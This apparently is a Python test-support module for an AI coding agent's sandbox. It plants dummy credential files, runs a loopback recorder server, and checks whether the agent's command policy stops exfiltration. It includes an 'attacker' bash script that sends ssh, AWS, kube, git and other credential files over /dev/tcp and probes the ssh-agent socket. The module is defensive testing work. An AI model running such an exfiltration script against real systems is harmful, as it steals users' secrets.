"""A person with planted keys, a project, and a server that records what arrives: for tests of keys."""

from __future__ import annotations

import json
import os
import socket
import socketserver
import subprocess
import threading
from collections.abc import Iterator
from contextlib import chdir, contextmanager
from pathlib import Path

from msgspec.structs import replace

from hermes_jobs.kernel.engine.ports import ToolContext, ToolOutcome, Verdict
from hermes_jobs.kernel.events import CallPattern
from hermes_jobs.kernel.streams.approval_rules import ApprovalRule, Permissions
from hermes_jobs.kernel.turns.messages import ToolCall
from hermes_jobs.tools import sandbox
from hermes_jobs.tools.command_line import PUSHING
from hermes_jobs.tools.credentials import Credentials
from hermes_jobs.tools.docker import DockerOptions
from hermes_jobs.tools.environment import filtered_environment
from hermes_jobs.tools.files import Files
from hermes_jobs.tools.path_policy import PathPolicy
from hermes_jobs.tools.policy import CommandPolicy
from hermes_jobs.tools.sandbox import Mode, Sandbox
from hermes_jobs.tools.sandbox_plan import LANDLOCK, NAMESPACE
from hermes_jobs.tools.terminal import Terminal, TerminalOptions
from hermes_jobs.tools.toolbox import Toolbox

from .support import ENGINES, Switch, context_in

LAYERS = {NAMESPACE: [NAMESPACE, LANDLOCK], LANDLOCK: [LANDLOCK]}.get(sandbox.layer().name, [])
"""Those of the sandbox that this machine has."""

KEYS = {
    ".ssh/id_ed25519": "ssh",
    ".git-credentials": "git",
    ".netrc": "netrc",
    ".npmrc": "npm",
    ".kube/config": "kube",
    ".aws/credentials": "aws",
    ".config/gh/hosts.yml": "gh",
    ".docker/config.json": "docker",
    ".pgpass": "pgpass",
    ".hermes-jobs/.env": "home",
}
"""The planted keys, below the person's home."""

SSH = """#!/bin/sh
# A server of ssh without a network: the key opens a folder of repositories.
key=$(cat "$HOME/.ssh/id_ed25519" 2>/dev/null)
[ "$key" = "NEEDLE-ssh" ] || { echo 'Permission denied (publickey).' >&2; exit 255; }
for last; do :; done
cd "$SERVED" && eval "$last"
"""

STEAL = """#!/bin/bash
# What an attacker's program does: it sends every key that it can read.
exec 3<>/dev/tcp/127.0.0.1/PORT || exit 0
cat FILES >&3 2>/dev/null
python3 -c 'import os, socket, sys; os.chdir(sys.argv[1])
socket.socket(socket.AF_UNIX).connect("agent.sock")' HOME_FOLDER 2>/dev/null && echo NEEDLE-agent >&3
exec 3>&-
exit 0
"""


class Recorder:
    """A server on loopback that records what arrives."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.arrived = b""

    @property
    def keys(self) -> list[str]:
        """The kinds of keys that have arrived."""
        return [kind for kind in (*KEYS.values(), "agent") if f"NEEDLE-{kind}".encode() in self.arrived]


@contextmanager
def recording() -> Iterator[Recorder]:
    """A recorder that listens until the end of the block."""

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            recorder.arrived += self.rfile.read()

    class Server(socketserver.ThreadingTCPServer):
        allow_reuse_address = True
        daemon_threads = False
        block_on_close = True

    with Server(("127.0.0.1", 0), Handler) as server:
        recorder = Recorder(server.server_address[1])
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        try:
            yield recorder
        finally:
            server.shutdown()
            thread.join()


class Person:
    """A person's home folder with keys, programs and a project, and the agent's tools on it."""

    def __init__(
        self,
        folder: Path,
        port: int = 0,
        *,
        mode: Mode = "on",
        visible: tuple[str, ...] = (),
        environ: dict[str, str] | None = None,
        docker: DockerOptions | None = None,
        permissions: Permissions | None = None,
    ) -> None:
        self.folder = folder
        self.permissions = permissions
        self.work = folder / "project"
        self.served = folder / "served"
        self.bin = folder / "bin"
        for made in (self.work, self.served, self.bin):
            made.mkdir()
        for name, kind in KEYS.items():
            self.write(folder / name, f"NEEDLE-{kind}")
        self._agent = socket.socket(socket.AF_UNIX)
        with chdir(folder):  # a path of a socket has at most a hundred characters
            self._agent.bind("agent.sock")
        self._agent.listen()
        self.program("ssh", SSH)
        files = " ".join(f'"{folder / name}"' for name in KEYS)
        self.steal = (
            STEAL.replace("PORT", str(port)).replace("FILES", files).replace("HOME_FOLDER", str(folder))
        )
        self.write(
            folder / ".gitconfig",
            "[user]\nname = Ann\nemail = ann@example.org\n[init]\ndefaultBranch = main\n",
        )
        self.environ = {
            **{name: value for name, value in os.environ.items() if not name.startswith(("GIT_", "SSH_"))},
            "HOME": str(folder),
            "PATH": f"{self.bin}:{os.environ['PATH']}",
            "SERVED": str(self.served),
            "SSH_AUTH_SOCK": str(folder / "agent.sock"),
            **(environ or {}),
        }
        self.paths = PathPolicy(home=str(folder / ".hermes-jobs"), user_home=str(folder))
        credentials = Credentials(
            paths=self.paths, environ=filtered_environment(self.environ), visible=ENGINES
        )
        own_sandbox = Sandbox(paths=self.paths, mode=mode, visible=visible, writable=(str(self.served),))
        is_confined = own_sandbox.confines if docker is None else lambda: True
        self.policy = CommandPolicy(paths=self.paths, credentials=credentials, is_confined=is_confined)
        self.options = options = TerminalOptions(
            policy=self.policy,
            sandbox=own_sandbox,
            environ=self.environ,
            timeout=60,
            docker=docker,
        )
        self.tools = Toolbox((*Terminal(options).tools, *Files(self.paths).tools), enabled=("coding",))

    def close(self) -> None:
        """Close the socket of the ssh-agent."""
        self._agent.close()

    def write(self, path: Path | str, text: str, *, executable: bool = False) -> Path:
        """Write a file, from the project if the path is relative."""
        file = self.work / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
        file.chmod(0o755 if executable else 0o600)
        return file

    def program(self, name: str, text: str) -> Path:
        """A program of the person's own."""
        return self.write(self.bin / name, text, executable=True)

    def thief(self, path: Path | str) -> str:
        """A program of an attacker in the project; returns its path."""
        return str(self.write(path, self.steal, executable=True))

    def git(self, *words: str, folder: Path | None = None) -> str:
        """Run git as the person does, outside of the agent."""
        process = subprocess.run(
            ["git", *words],
            cwd=folder or self.work,
            env=self.environ,
            capture_output=True,
            text=True,
            check=True,
        )
        return process.stdout

    def repository(self) -> None:
        """Make the project a repository with a commit, and a remote one that ssh reaches."""
        self.git("init", "-q", "--bare", "r.git", folder=self.served)
        self.git("init", "-q")
        self.git("remote", "add", "origin", "git@server:r.git")
        self.write("a.txt", "a\n")
        self.git("add", "a.txt")
        self.git("commit", "-qm", "a")
        self.git("push", "-q", "-u", "origin", "main")

    def context(
        self, *, attended: bool = True, approved: bool = False, approved_rule: str = ""
    ) -> ToolContext:
        """The context of a call in the project."""
        return replace(self._in_work(attended=attended, approved=approved), approved_rule=approved_rule)

    def verdict(self, command: str, *, attended: bool = True) -> Verdict:
        """The verdict on a command."""
        return self.tools.verdict(self._call("terminal", command=command), self._in_work(attended=attended))

    def run(self, command: str, *, attended: bool = True, approved: bool = False) -> ToolOutcome:
        """Run a command as the engine does: refused, or run; a question is answered with `approved`."""
        return self.use("terminal", attended=attended, approved=approved, command=command)

    def use(
        self, tool: str, *, attended: bool = True, approved: bool = False, **arguments: object
    ) -> ToolOutcome:
        """Call any tool, as `run` does."""
        call = self._call(tool, **arguments)
        context = self._in_work(attended=attended)
        verdict = self.tools.verdict(call, context)
        if verdict.decision == "deny" or (verdict.decision == "ask" and not approved):
            return ToolOutcome(content=verdict.refusal(), ok=False, refused=True, rule=verdict.rule)
        rule = verdict.rule if verdict.decision == "ask" else ""
        return self.tools.run(call, replace(context, approved_rule=rule), None, Switch())

    def _in_work(self, *, attended: bool, approved: bool = False) -> ToolContext:
        """The context of somebody who has allowed pushes of the project, but for other `permissions`; in
        unattended turns nothing is allowed."""
        context = context_in(self.work, attended=attended, approved=approved)
        if self.permissions is not None:
            return replace(context, permissions=self.permissions)
        pushes = CallPattern(tool="terminal", pattern="git push *", folder=str(self.work), answers=(PUSHING,))
        rule = ApprovalRule(number=1, ruling="allow", calls=pushes, by="user")
        return replace(context, permissions=Permissions(rules=(rule,))) if attended else context

    def _call(self, tool: str, **arguments: object) -> ToolCall:
        return ToolCall("x", tool, json.dumps(arguments))
